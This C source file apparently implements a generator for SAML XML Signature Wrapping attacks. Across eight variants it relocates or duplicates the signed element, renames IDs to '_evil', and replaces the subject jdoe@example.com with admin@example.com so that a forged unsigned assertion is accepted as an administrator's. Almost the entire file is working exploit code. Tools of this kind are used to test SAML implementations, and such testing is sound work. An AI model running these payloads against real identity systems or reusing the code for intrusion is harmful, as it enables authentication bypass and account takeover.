/* SPDX-License-Identifier: MIT */
#include "saml_wrap.h"

#include <string.h>

struct wrap {
    struct str xml;
    struct str genuine;     /* the signed element */
    struct str signature;   /* inside it */
    struct str open, close; /* of the signature: <ds:Signature …> with its children, </ds:Signature> */
};

/* From the first `from` up to the end of the last `to`. */
static bool
cut_out(struct str text, const char *from, const char *to, struct str *part)
{
    size_t start = str_find_c(text, from), end = start;

    if (start == SIZE_MAX)
        return false;
    for (size_t at; (at = str_find_c(str_from_offset(text, end), to)) != SIZE_MAX;)
        end += at + strlen(to);
    *part = str_slice(text, start, end - start);
    return end > start;
}

static void
add_replaced(struct buf *out, struct str text, const char *from, const char *to)
{
    size_t at;

    while ((at = str_find_c(text, from)) != SIZE_MAX) {
        buf_add_str(out, str_slice(text, 0, at));
        buf_add_c(out, to);
        text = str_from_offset(text, at + strlen(from));
    }
    buf_add_str(out, text);
}

/* The genuine element without its signature. */
static void
add_bare(struct buf *out, const struct wrap *wrap)
{
    size_t at = (size_t)(wrap->signature.ptr - wrap->genuine.ptr);

    buf_add_str(out, str_slice(wrap->genuine, 0, at));
    buf_add_str(out, str_from_offset(wrap->genuine, at + wrap->signature.len));
}

/* Its changed copy, in which `middle` stands where the signature was. */
static void
add_evil(struct buf *out, const struct wrap *wrap, struct str middle)
{
    size_t at = (size_t)(wrap->signature.ptr - wrap->genuine.ptr);
    struct buf head;

    buf_init(&head, 1 << 20);
    add_replaced(&head, str_slice(wrap->genuine, 0, at), " ID=\"_", " ID=\"_evil");
    buf_add_str(out, buf_str(&head));
    buf_add_str(out, middle);
    buf_reset(&head);
    add_replaced(&head, str_from_offset(wrap->genuine, at + wrap->signature.len), " ID=\"_", " ID=\"_evil");
    add_replaced(out, buf_str(&head), ">jdoe@example.com<", ">admin@example.com<");
    buf_release(&head);
}

/* What stands where the signature was in the changed copy. */
static void
add_middle(struct buf *out, const struct wrap *wrap, unsigned variant)
{
    bool inside = variant == 1 || variant == 6 || variant == 8;

    if (variant == 2)
        add_bare(out, wrap);
    if (variant == 4)
        buf_add_str(out, wrap->genuine);
    if (variant == 3 || variant == 4 || variant == 7)
        return;
    buf_add_str(out, wrap->open);
    buf_add_c(out, variant == 8 ? "<ds:Object>" : "");
    if (inside)
        add_bare(out, wrap);
    buf_add_c(out, variant == 8 ? "</ds:Object>" : "");
    buf_add_str(out, wrap->close);
}

bool
saml_wrap(struct str xml, unsigned variant, struct buf *out)
{
    bool response = variant <= 2;
    struct wrap wrap = { .xml = xml };
    size_t at, status;
    struct buf middle;

    if (variant < 1 || variant > 8 ||
        !cut_out(xml, response ? "<samlp:Response" : "<saml:Assertion",
                 response ? "</samlp:Response>" : "</saml:Assertion>", &wrap.genuine) ||
        !cut_out(wrap.genuine, "<ds:Signature ", "</ds:Signature>", &wrap.signature))
        return false;
    wrap.open = str_slice(wrap.signature, 0, wrap.signature.len - strlen("</ds:Signature>"));
    wrap.close = STR("</ds:Signature>");
    at = (size_t)(wrap.genuine.ptr - xml.ptr);
    buf_init(&middle, 1 << 20);
    add_middle(&middle, &wrap, variant);
    status = variant == 7 ? str_find_c(xml, "<samlp:Status>") : at;
    if (status == SIZE_MAX || status > at)
        return false;
    buf_add_str(out, str_slice(xml, 0, status));
    buf_add_c(out, variant == 7 ? "<samlp:Extensions>" : "");
    add_evil(out, &wrap, buf_str(&middle));
    buf_add_c(out, variant == 7 ? "</samlp:Extensions>" : "");
    buf_add_str(out, str_slice(xml, status, at - status));
    if (variant == 3 || variant == 7)
        buf_add_str(out, wrap.genuine);
    if (variant == 5)
        add_bare(out, &wrap);
    buf_add_str(out, str_from_offset(xml, at + wrap.genuine.len));
    buf_release(&middle);
    return true;
}
